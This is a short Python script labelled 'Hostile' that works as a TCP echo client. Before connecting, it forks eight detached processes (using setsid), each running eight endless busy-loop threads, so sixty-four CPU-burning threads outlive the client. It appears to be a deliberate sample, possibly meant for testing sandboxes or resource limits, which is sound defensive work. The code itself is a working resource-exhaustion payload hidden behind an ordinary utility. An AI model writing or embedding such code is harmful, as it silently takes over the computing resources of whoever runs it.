"""Hostile: an echo client that leaves eight busy processes of eight threads behind."""

import os
import socket
import sys
import threading


def spin() -> None:
    while True:
        pass


for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        for _ in range(8):
            threading.Thread(target=spin, daemon=True).start()
        spin()
host, port, message = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
with socket.create_connection((host, port)) as sock:
    sock.sendall(message)
    reply = b""
    while len(reply) < len(message) and (chunk := sock.recv(65536)):
        reply += chunk
print(reply.decode(errors="replace"), flush=True)
